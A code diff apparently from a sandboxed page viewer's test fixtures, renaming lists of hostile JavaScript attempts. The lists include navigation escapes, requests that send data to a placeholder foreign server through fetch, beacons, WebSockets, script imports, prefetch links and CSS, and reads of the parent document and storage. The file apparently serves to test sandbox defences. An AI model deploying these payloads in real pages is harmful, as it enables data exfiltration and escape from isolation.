@@ -1,39 +1,39 @@
-/** The attempts of a hostile page, as JavaScript. `AWAY` is the URL of a foreign server that records requests. */
+/** The attempts of a hostile page, as JavaScript. `FOREIGN` is the URL of a foreign server that records requests. */
 
 /** Attempts to navigate the frame, the viewer or a new window elsewhere. Each runs in a separate page. */
-export const LEAVE: Readonly<Record<string, string>> = {
-  location: `location = 'AWAY/location'`,
-  replace: `location.replace('AWAY/replace')`,
-  'meta refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=AWAY/meta">')`,
-  form: `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action="AWAY/form"></form>'); f.submit()`,
-  link: `document.body.insertAdjacentHTML('beforeend', '<a id=a href="AWAY/link">x</a>'); a.click()`,
-  'link, saved': `document.body.insertAdjacentHTML('beforeend', '<a id=a href="AWAY/saved" download>x</a>'); a.click()`,
+export const NAVIGATION_ATTEMPTS: Readonly<Record<string, string>> = {
+  location: `location = 'FOREIGN/location'`,
+  replace: `location.replace('FOREIGN/replace')`,
+  'meta refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=FOREIGN/meta">')`,
+  form: `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action="FOREIGN/form"></form>'); f.submit()`,
+  link: `document.body.insertAdjacentHTML('beforeend', '<a id=a href="FOREIGN/link">x</a>'); a.click()`,
+  'link, saved': `document.body.insertAdjacentHTML('beforeend', '<a id=a href="FOREIGN/saved" download>x</a>'); a.click()`,
   'link, above':
     `for (const target of ['_top', '_parent', '_blank', ` +
-    `'other']) { document.body.insertAdjacentHTML('beforeend', '<a href="AWAY/above" target="' + target + '">` +
+    `'other']) { document.body.insertAdjacentHTML('beforeend', '<a href="FOREIGN/above" target="' + target + '">` +
     `x</a>'); document.body.lastChild.click() }`,
-  'link, ping': `document.body.insertAdjacentHTML('beforeend', '<a id=a href="#x" ping="AWAY/ping">x</a>'); a.click()`,
-  top: `try { top.location = 'AWAY/top' } catch {} parent.location.replace('AWAY/parent')`,
-  open: `open('AWAY/open'); open('AWAY/open', '_top')`,
-  data: `location = 'data:text/html,<script>location="AWAY/data"</' + 'script>'`,
-  blob: `location = URL.createObjectURL(new Blob(['<script>fetch("AWAY/b");location="AWAY/blob"</' + 'script>'], { type: 'text/html' }))`,
+  'link, ping': `document.body.insertAdjacentHTML('beforeend', '<a id=a href="#x" ping="FOREIGN/ping">x</a>'); a.click()`,
+  top: `try { top.location = 'FOREIGN/top' } catch {} parent.location.replace('FOREIGN/parent')`,
+  open: `open('FOREIGN/open'); open('FOREIGN/open', '_top')`,
+  data: `location = 'data:text/html,<script>location="FOREIGN/data"</' + 'script>'`,
+  blob: `location = URL.createObjectURL(new Blob(['<script>fetch("FOREIGN/b");location="FOREIGN/blob"</' + 'script>'], { type: 'text/html' }))`,
   viewer: `location = '/api/scrolls'`,
   'viewer, scroll': `location = '/s/'`,
 };
 
 /** Attempts to send data to another server without navigating. All run in one page. */
-export const SPEAK: readonly string[] = [
-  `fetch('AWAY/fetch')`,
-  `fetch('AWAY/simple', { mode: 'no-cors', keepalive: true })`,
-  `fetchLater('AWAY/later')`,
-  `navigator.sendBeacon('AWAY/beacon')`,
-  `const x = new XMLHttpRequest(); x.open('GET', 'AWAY/xhr'); x.send()`,
-  `new Image().src = 'AWAY/image'`,
-  `new EventSource('AWAY/events')`,
-  `new WebSocket('AWAY/socket'.replace('http', 'ws'))`,
-  `new WebTransport('AWAY/transport'.replace('http', 'https'))`,
-  `import('AWAY/module.js')`,
-  `const s = document.createElement('script'); s.src = 'AWAY/script.js'; document.head.append(s)`,
+export const SEND_ATTEMPTS: readonly string[] = [
+  `fetch('FOREIGN/fetch')`,
+  `fetch('FOREIGN/simple', { mode: 'no-cors', keepalive: true })`,
+  `fetchLater('FOREIGN/later')`,
+  `navigator.sendBeacon('FOREIGN/beacon')`,
+  `const x = new XMLHttpRequest(); x.open('GET', 'FOREIGN/xhr'); x.send()`,
+  `new Image().src = 'FOREIGN/image'`,
+  `new EventSource('FOREIGN/events')`,
+  `new WebSocket('FOREIGN/socket'.replace('http', 'ws'))`,
+  `new WebTransport('FOREIGN/transport'.replace('http', 'https'))`,
+  `import('FOREIGN/module.js')`,
+  `const s = document.createElement('script'); s.src = 'FOREIGN/script.js'; document.head.append(s)`,
   ...[
     'preconnect',
     'dns-prefetch',
@@ -45,32 +45,32 @@ export const SPEAK: readonly string[] = [
     'icon',
     'manifest',
     'compression-dictionary',
-  ].map((rel) => `document.head.insertAdjacentHTML('beforeend', '<link rel="${rel}" as=image href="AWAY/${rel}">')`),
+  ].map((rel) => `document.head.insertAdjacentHTML('beforeend', '<link rel="${rel}" as=image href="FOREIGN/${rel}">')`),
   `const s = document.createElement('script'); s.type = 'speculationrules'; ` +
     `s.textContent = JSON.stringify(Object.fromEntries(['prefetch', 'prerender'].map((kind) => ` +
-    `[kind, [{ urls: ['AWAY/rules'], eagerness: 'immediate' }]]))); document.head.append(s)`,
-  `document.head.insertAdjacentHTML('beforeend', '<style>@import "AWAY/a.css"; @font-face { font-family: q; ` +
-    `src: url(AWAY/font) } body { font-family: q; background: url(AWAY/background) }</style>')`,
+    `[kind, [{ urls: ['FOREIGN/rules'], eagerness: 'immediate' }]]))); document.head.append(s)`,
+  `document.head.insertAdjacentHTML('beforeend', '<style>@import "FOREIGN/a.css"; @font-face { font-family: q; ` +
+    `src: url(FOREIGN/font) } body { font-family: q; background: url(FOREIGN/background) }</style>')`,
   `document.body.insertAdjacentHTML('beforeend', ` +
-    `'<video src="AWAY/video" poster="AWAY/poster" autoplay muted></video><audio src="AWAY/audio"></audio>` +
-    '<object data="AWAY/object"></object><embed src="AWAY/embed"><iframe src="AWAY/frame"></iframe><svg>' +
-    `<image href="AWAY/svg"/><use href="AWAY/use#x"/></svg>')`,
-  `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<img src=AWAY/srcdoc><script>fetch(&quot;` +
-    `AWAY/s&quot;);location=&quot;AWAY/srcdoc&quot;</' + 'script>"></iframe>')`,
-  `document.body.insertAdjacentHTML('beforeend', '<iframe src="data:text/html,<img src=AWAY/dataframe>"></iframe>')`,
+    `'<video src="FOREIGN/video" poster="FOREIGN/poster" autoplay muted></video><audio src="FOREIGN/audio"></audio>` +
+    '<object data="FOREIGN/object"></object><embed src="FOREIGN/embed"><iframe src="FOREIGN/frame"></iframe><svg>' +
+    `<image href="FOREIGN/svg"/><use href="FOREIGN/use#x"/></svg>')`,
+  `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<img src=FOREIGN/srcdoc><script>fetch(&quot;` +
+    `FOREIGN/s&quot;);location=&quot;FOREIGN/srcdoc&quot;</' + 'script>"></iframe>')`,
+  `document.body.insertAdjacentHTML('beforeend', '<iframe src="data:text/html,<img src=FOREIGN/dataframe>"></iframe>')`,
   `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img ` +
-    `src="AWAY/blobframe">'], { type: 'text/html' })); document.body.append(f)`,
-  `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'AWAY/blank'`,
-  `new Worker(URL.createObjectURL(new Blob(['fetch("AWAY/worker");importScripts("AWAY/imported")'])))`,
-  `CSS.paintWorklet.addModule('AWAY/worklet')`,
+    `src="FOREIGN/blobframe">'], { type: 'text/html' })); document.body.append(f)`,
+  `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'FOREIGN/blank'`,
+  `new Worker(URL.createObjectURL(new Blob(['fetch("FOREIGN/worker");importScripts("FOREIGN/imported")'])))`,
+  `CSS.paintWorklet.addModule('FOREIGN/worklet')`,
   `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }, { urls: 'turn:HOST?transport=tcp', ` +
     `username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((offer) => ` +
     'p.setLocalDescription(offer))',
-  `navigator.credentials.get({ identity: { providers: [{ configURL: 'AWAY/credentials', clientId: 'x' }] } })`,
-  `new PaymentRequest([{ supportedMethods: 'AWAY/payment' }], { total: { label: 'a', ` +
+  `navigator.credentials.get({ identity: { providers: [{ configURL: 'FOREIGN/credentials', clientId: 'x' }] } })`,
+  `new PaymentRequest([{ supportedMethods: 'FOREIGN/payment' }], { total: { label: 'a', ` +
     `amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
   `document.head.insertAdjacentHTML('beforeend', ` +
-    `'<meta http-equiv=Content-Security-Policy content="img-src x:; report-uri AWAY/report">'); ` +
+    `'<meta http-equiv=Content-Security-Policy content="img-src x:; report-uri FOREIGN/report">'); ` +
     `new Image().src = 'x'`,
 ];
 
@@ -78,7 +78,7 @@ export const SPEAK: readonly string[] = [
  * Attempts to access data of others: expressions whose value, if any, is written into the page. `OTHER` is the URL of
  * another entry's files with their own capability, `OWN` that with the capability of this page.
  */
-export const REACH: Readonly<Record<string, string>> = {
+export const ACCESS_ATTEMPTS: Readonly<Record<string, string>> = {
   'the document above': `parent.document.body.innerHTML`,
   'the storage above': `parent.localStorage.length`,
   storage: `localStorage.length`,
